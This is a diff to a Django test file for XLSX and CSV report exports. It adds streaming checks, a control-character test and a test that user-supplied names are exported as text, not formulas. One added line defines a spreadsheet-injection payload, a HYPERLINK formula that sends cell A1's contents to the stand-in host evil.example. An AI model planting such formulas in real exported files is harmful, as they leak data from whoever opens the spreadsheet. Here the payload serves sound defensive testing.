@@ -22,7 +22,8 @@ def workbook(client, url):
     response = client.get(url)
     assert response.status_code == 200
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
-    return load_workbook(io.BytesIO(response.content))
+    assert response.streaming  # sent from a temporary file, in chunks: not built in memory
+    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))
 
 
 def test_the_xlsx_summary_equals_the_dashboard(client, world):
@@ -78,7 +79,7 @@ def test_a_viewer_gets_the_roll_ups_without_the_record_list(client, world):
 
 def read_csv(client, url):
     response = client.get(url)
-    assert response.status_code == 200
+    assert response.status_code == 200 and response.streaming  # row by row, never the whole file in memory
     raw = b"".join(response.streaming_content)
     assert raw.startswith(b"\xef\xbb\xbf")
     return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
@@ -102,3 +103,36 @@ def test_the_csv_cannot_carry_a_formula(client, world):
     client.force_login(world.officer)
     rows = read_csv(client, f"/reports/u/{world.b.pk}/export.csv?period=2024&table=records")
     assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_the_xlsx_cannot_carry_a_formula(client, world):
+    """A name typed as a formula arrives as the text it is, in the team sheet and in the record list."""
+    from records.models import AssistanceRecord
+
+    team = world.teams["b1"]
+    team.name = EVIL
+    team.save()
+    member = AssistanceRecord.objects.filter(team=team).first().member
+    member.first_name, member.last_name = "@SUM(1+1)", ""
+    member.save()
+    client.force_login(world.officer)
+    wb = workbook(client, f"/reports/u/{world.b.pk}/export.xlsx?period=2025")
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    teams = [c for c in cells if c.parent.title == "Theo tổ" and c.value == EVIL]
+    listed = [c for c in cells if c.parent.title == "Danh sách hồ sơ" and c.value == EVIL]
+    assert len(teams) == 1 and len(listed) == 5  # Thôn Bình 1's five records of 2025, verbatim
+    assert all(c.data_type == "s" and c.quotePrefix for c in teams + listed)
+    assert [c for c in cells if c.value == "@SUM(1+1)" and c.data_type == "s"]
+
+
+def test_the_xlsx_drops_characters_a_workbook_cannot_hold(client, world):
+    team = world.teams["b1"]
+    team.name = "Tổ\x01 Bình\x0b 1"
+    team.save()
+    client.force_login(world.officer)
+    wb = workbook(client, f"/reports/u/{world.b.pk}/export.xlsx?period=2025")
+    assert ("Tổ Bình 1", 5, 5, 1) in list(wb["Theo tổ"].iter_rows(min_row=2, values_only=True))
